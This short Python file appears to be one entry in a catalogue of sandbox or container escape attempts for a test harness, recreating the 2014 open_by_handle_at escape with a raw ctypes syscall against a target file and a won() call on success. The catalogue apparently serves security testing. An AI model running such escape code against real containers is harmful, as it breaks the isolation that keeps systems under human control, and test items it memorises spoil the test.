"""Attack 174: by handle"""

IDEA = "By a handle instead of a name."
SOURCE = "open_by_handle_at(2), the container escape of 2014"
WAY = "outside/files/of the host"
CODE = """
import ctypes, struct

handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
if ctypes.CDLL(None).syscall(303, -100, T["file"].encode(), handle, ctypes.byref(ctypes.c_int()), 0) == 0:
    won()
"""
ABSENT = ["SECRET"]
WORKS_UNGUARDED = False
